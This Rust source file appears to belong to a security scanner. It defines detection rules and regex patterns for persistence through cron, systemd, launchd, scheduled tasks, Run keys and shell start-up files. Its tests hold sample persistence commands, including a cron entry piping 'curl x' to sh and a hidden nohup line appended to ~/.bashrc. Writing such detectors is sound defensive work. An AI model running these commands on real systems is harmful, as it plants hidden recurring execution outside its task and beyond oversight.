//! Persistence: making something run again later, outside the agent's
//! task: cron, shell start-up files, systemd user units, launchd agents,
//! autostart entries, Windows Run keys and scheduled tasks.

use super::{Ctx, OnDoc, Rule, re};
use crate::doc::Doc;
use crate::finding::{Family, Severity};

pub const SCHEDULER: Rule = Rule {
    id: "persistence.scheduler",
    family: Family::Persistence,
    severity: Severity::High,
    short: "A job installed in cron, systemd, launchd or the task scheduler",
    full: "crontab edits, /etc/cron.*, systemd user units enabled, LaunchAgents loaded, schtasks /create, Windows Run \
           keys: code that runs again after the skill's task is over.",
};
pub const SHELL_RC: Rule = Rule {
    id: "persistence.shell-startup",
    family: Family::Persistence,
    severity: Severity::High,
    short: "A shell start-up file modified",
    full: "Appending to ~/.bashrc, ~/.zshrc, ~/.profile, ~/.bash_profile, PowerShell profiles or XDG autostart: every \
           new shell or login runs it.",
};

pub const RULES: &[Rule] = &[SCHEDULER, SHELL_RC];

re!(
    CRON,
    r"(?i)(?:\bcrontab\s+(?:-\s|-l[^\n]*\|\s*crontab|\S+\.(?:txt|cron)\b)|\|\s*crontab\s+-|/etc/cron(?:tab|\.d|\.daily|\.hourly)|/var/spool/cron|systemctl\s+--user\s+(?:enable|start|daemon-reload)|\.config/systemd/user/|/etc/systemd/system/[\w@.-]+\.(?:service|timer)|Library/LaunchAgents/|Library/LaunchDaemons/|launchctl\s+(?:load|bootstrap|submit)|schtasks(?:\.exe)?\s+/create|Register-ScheduledTask|CurrentVersion\\Run(?:Once)?\b|New-ItemProperty[^\n]*\\Run\b|\bat\s+now\s*\+)"
);
re!(
    RC_WRITE,
    r#"(?i)(?:>>?|tee\s+-a|Add-Content|Out-File\s+-Append|echo[^\n]*>>)\s*["']?(?:~|\$HOME|\$\{HOME\}|/home/\w+|/root)?/?(?:\.(?:bashrc|bash_profile|bash_login|zshrc|zprofile|zshenv|profile|login|cshrc|tcshrc|config/fish/config\.fish)|\$PROFILE|\.config/autostart/)"#
);
re!(AUTOSTART, r"(?i)\.config/autostart/[\w.-]+\.desktop|Start Menu\\Programs\\Startup|shell:startup");

pub fn check(doc: &Doc, ctx: &mut Ctx) {
    for m in CRON.find_iter(doc) {
        // A sentence about cron is not a cron job; a command is.
        let sev = if doc.is_code(m.start()) { Severity::High } else { Severity::Medium };
        ctx.emit(
            &SCHEDULER,
            sev,
            doc,
            m.start(),
            doc.line_text(m.start()),
            "something is scheduled to run again".into(),
        );
    }
    for m in RC_WRITE.find_iter(doc).chain(AUTOSTART.find_iter(doc)) {
        let line = doc.line_text(m.start());
        // `export PATH=…` into an rc file is what installers do; anything else runs a program at every login.
        let sev = if line.contains("PATH=") && !line.contains("curl") && !line.contains("wget") {
            Severity::Low
        } else {
            Severity::High
        };
        ctx.emit(&SHELL_RC, sev, doc, m.start(), line, "a start-up file is changed".into());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<(&'static str, Severity)> {
        crate::rules::found_by(check, text)
    }

    #[test]
    fn persistence_is_found() {
        assert!(
            found("(crontab -l; echo '*/5 * * * * curl x|sh') | crontab -")
                .iter()
                .any(|x| x.0 == "persistence.scheduler")
        );
        assert!(found("echo 'nohup /tmp/.x &' >> ~/.bashrc").contains(&("persistence.shell-startup", Severity::High)));
        assert!(
            found("cp a.plist ~/Library/LaunchAgents/com.x.plist && launchctl load ~/Library/LaunchAgents/com.x.plist")
                .iter()
                .any(|x| x.0 == "persistence.scheduler")
        );
        assert!(
            found("schtasks /create /sc minute /tn upd /tr C:\\x.exe").iter().any(|x| x.0 == "persistence.scheduler")
        );
    }

    #[test]
    fn path_setup_is_low() {
        assert_eq!(
            found("echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc"),
            vec![("persistence.shell-startup", Severity::Low)]
        );
        assert!(found("crontab -l").is_empty());
    }
}
